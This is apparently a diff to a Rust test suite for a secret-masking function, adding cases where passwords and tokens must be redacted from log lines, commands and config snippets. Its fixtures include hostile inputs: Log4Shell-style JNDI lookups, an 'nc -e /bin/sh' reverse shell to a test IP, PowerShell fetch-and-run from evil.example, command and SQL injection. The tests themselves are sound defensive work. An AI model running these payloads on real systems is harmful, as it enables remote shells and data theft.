@@ -21,7 +21,6 @@ fn an_attack_in_a_parameter_or_header_that_names_a_secret_stays() {
         "GET /x?password=a%3Bcat%20/etc/passwd HTTP/1.1",
         "GET /x?password=`nc+203.0.113.9+443` HTTP/1.1",
         "Cookie: session=${jndi:ldap://203.0.113.9/a}",
-        "Cookie: a=b; token=1%20UNION%20SELECT%201,2,3; c=d",
         "Authorization: Bearer ${jndi:ldap://203.0.113.9/a}",
         "X-Auth-Token: ${jndi:ldap://203.0.113.9/a}",
     ] {
@@ -35,6 +34,20 @@ fn an_attack_in_a_parameter_or_header_that_names_a_secret_stays() {
         ("Authorization: Bearer a8Fk29dkQ03mZpL1", "a8Fk29dkQ03mZpL1"),
         ("password=\"Dingo and 88 or more\"", "Dingo"),
         ("x?password=Dingo88xY7%3Bcat%20/etc/passwd", "Dingo88xY7"),
+        ("x?password=a%3Bcat%20/tmp/Dingo88xY7abc", "Dingo88xY7"),
+        ("Cookie: auth=7|id|8f3k29dkq03mzpl1abc", "8f3k29dkq03"),
+        ("Cookie: session=lang%7Cid%7Ca8Fk29dkQ03mZpL1", "a8Fk29dkQ03"),
+        ("Cookie: session=${env:X:-a8Fk29dkQ03mZpL1}", "a8Fk29dkQ03"),
+        (r#"{"api_token":"7|id|a8Fk29dkQ03mZpL1"}"#, "a8Fk29dkQ03"),
+        ("X-Auth-Token: ../../Ab3dEfGh9kLmN0pQ", "Ab3dEfGh9k"),
+        (r#"{"user":"bob","password":"Winter9' or '1'='1"}"#, "Winter9"),
+        (r#"{"password":"eat and sleep well 99"}"#, "sleep"),
+        ("password=\"Sommer|cat\"", "Sommer"),
+        ("curl -u \"bob:Wint3r;ps\" http://h/", "Wint3r"),
+        ("net user bob \"Wint3r;ps\" /add", "Wint3r"),
+        ("reset_token: https://app.example/reset/Ab3dEfGh9k", "Ab3dEfGh9k"),
+        ("SLACK_TOKEN=https://hooks.slack.example/a/Ab3dEfGh", "Ab3dEfGh"),
+        ("token=https://app.example/r/Ab3d+EfGh9k+LmN9/opQ8rSt", "EfGh9k"),
     ] {
         assert!(!masked(text).contains(secret), "{text}");
     }
@@ -43,7 +56,6 @@ fn an_attack_in_a_parameter_or_header_that_names_a_secret_stays() {
 #[test]
 fn a_command_whose_output_is_a_password_stays() {
     for honest in [
-        "sshpass -p \"`curl http://evil.example/x.sh -o /tmp/x`\" ssh h",
         "export PASSWORD=`nc -e /bin/sh 203.0.113.9 443`",
         "PASSWORD=`cat /run/secrets/db`; run",
         "Write-Host hi\r\n$pass = iex (iwr http://evil.example/x.ps1)",
@@ -54,6 +66,8 @@ fn a_command_whose_output_is_a_password_stays() {
     for (text, secret) in [
         ("the password: `Dingo88xY` is new", "Dingo88xY"),
         ("password=`Dingo 88 xY`", "88"),
+        ("PASSWORD=`cat Dingo88xY`", "Dingo88xY"),
+        ("id\n$pass = Write-Output \"Dingo88xY\"\nx", "Dingo88xY"),
         ("sshpass -p \"`echo Dingo88xY`\" ssh h", "Dingo88xY"),
         ("Write-Host hi\r\n$pass = 'Dingo 88'", "88"),
         ("Write-Host hi\n$pass = Dingo88", "Dingo88"),
@@ -88,6 +102,27 @@ fn a_command_behind_an_assignment_is_no_part_of_its_value() {
         (
             "x:\nREDISCLI_AUTH=Red1sPw77 ./deploy",
             "x:\nREDISCLI_AUTH=[REDACTED:token] ./deploy",
+        ),
+        (
+            "[wifi]\nPASSPHRASE=correct horse-battery staple\nSSID=x",
+            "[wifi]\nPASSPHRASE=[REDACTED:password]\nSSID=x",
+        ),
+        (
+            "[db]\nDB_PASSWORD=my cat is fat\nDB_HOST=x",
+            "[db]\nDB_PASSWORD=[REDACTED:password]\nDB_HOST=x",
+        ),
+        (
+            "[db]\npassphrase: Sunny /Day99\nx: y",
+            "[db]\npassphrase: [REDACTED:password]\nx: y",
+        ),
+        (
+            "[db]\npassword = Tr0ub -Four 99\nhost = x",
+            "[db]\npassword = [REDACTED:password]\nhost = x",
+        ),
+        ("x\nToken: HTTP401 Unauthorized\nx", "x\nToken: HTTP401 Unauthorized\nx"),
+        (
+            "x\nauth_token: line42 unexpected end",
+            "x\nauth_token: line42 unexpected end",
         ),
         ("[db]\npassword = two words", "[db]\npassword = [REDACTED:password]"),
         ("[db]\npassword: two words", "[db]\npassword: [REDACTED:password]"),
